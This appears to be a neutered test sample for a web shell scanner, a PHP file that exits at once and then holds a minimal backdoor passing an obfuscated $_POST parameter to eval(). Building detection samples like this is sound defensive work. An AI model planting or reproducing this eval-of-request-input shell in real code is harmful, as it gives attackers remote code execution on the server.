<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php
$x = ${'_P'.'OST'};
eval($x['c']);
